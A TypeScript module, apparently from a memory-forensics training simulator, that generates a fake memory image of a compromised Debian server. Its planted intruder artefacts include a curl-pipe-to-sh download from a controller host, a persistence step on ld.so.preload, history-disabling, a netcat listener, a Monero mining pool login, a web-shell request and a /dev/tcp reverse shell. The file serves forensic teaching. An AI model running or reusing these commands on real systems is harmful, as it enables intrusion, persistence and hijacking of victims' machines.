import type { MemoryFragment } from '../hosts/memory.js';
import type { SimulatedProcess } from './proc/process.js';
import { processTable } from './proc/process-table.js';
import { timelineOf } from './timeline.js';
import { INTRUDER, REVERSE_SHELL, SUSPECT } from './tree/scene.js';

const PAGE = 4096;
/** Above the low megabyte, where the ranges of /proc/iomem have a hole. */
const KERNEL_AT = 0x20_0000;
const PROCESSES_AT = 0x40_0000;
const HEAPS_AT = 0xa0_0000;

const BANNER = `Linux version ${SUSPECT.kernel} (debian-kernel@lists.debian.org) (gcc-12 (Debian 12.2.0-14) 12.2.0, GNU ld (GNU Binutils for Debian) 2.40) #1 SMP PREEMPT_DYNAMIC Debian ${SUSPECT.kernelVersion}\n\0`;

/** The stack of a process, as the kernel has put it there: arguments, then environment. */
function stackOf(process: SimulatedProcess): string {
  const environment = Object.entries(process.environment).map(([name, value]) => `${name}=${value}`);
  const exe = process.exe ?? '';
  return `${process.comm}\0\0${[...process.command, ...environment, exe].join('\0')}\0`;
}

/** Lines of bash's history as they lie on its heap, with their time stamps; these were never written to a file. */
function historyInMemory(at: Date): string {
  const seconds = Math.floor(at.getTime() / 1000);
  const lines = [
    'id',
    `curl -fsSL http://${INTRUDER.controller}/x.sh | sh`,
    'chattr +i /etc/ld.so.preload',
    'unset HISTFILE',
    `nc -lvp ${INTRUDER.listenerPort} &`,
  ];
  return lines.map((line, index) => `#${seconds + index * 7}\0${line}\0`).join('\0\0\0');
}

function intruderHeaps(at: Date): readonly string[] {
  return [
    historyInMemory(at),
    `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"kworkerd/6.21.0"}}\nstratum+tcp://${INTRUDER.controller}:${INTRUDER.poolPort}\0`,
    `POST /wp-content/uploads/2026/11/cache.php HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: python-requests/2.31.0\r\n\r\nq=aWQ7dW5hbWUgLWE%3D\0`,
    `${REVERSE_SHELL}\0/dev/tcp/${INTRUDER.controller}/${INTRUDER.shellPort}\0`,
  ];
}

/** What lies in the suspect's memory: the kernel's banner, every process's stack, and what the intruder never saved. */
export function memoryContent(findingAt: Date, intruder: 'present' | 'absent'): readonly MemoryFragment[] {
  const times = timelineOf(findingAt);
  const stacks = processTable(times, intruder).map((process, index) => ({
    address: PROCESSES_AT + index * 4 * PAGE,
    bytes: stackOf(process),
  }));
  const heaps = intruder === 'present' ? intruderHeaps(times.reverseShell) : [];
  return [
    { address: KERNEL_AT, bytes: BANNER },
    ...stacks,
    ...heaps.map((bytes, index) => ({ address: HEAPS_AT + index * 16 * PAGE, bytes })),
  ];
}
